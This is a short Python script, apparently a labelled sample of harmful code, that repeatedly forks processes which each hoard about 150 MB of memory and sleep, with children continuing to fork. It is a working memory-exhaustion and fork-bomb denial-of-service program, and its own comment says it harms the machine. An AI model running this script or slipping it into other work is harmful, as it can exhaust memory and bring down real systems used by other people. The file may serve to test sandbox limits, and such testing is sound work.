"""Takes all the memory it can get, in many processes."""
# harms: the machine

import os
import time

for _ in range(50):
    if os.fork() == 0:
        hoard = bytearray(b"x") * 150_000_000
        time.sleep(1000)
time.sleep(1000)
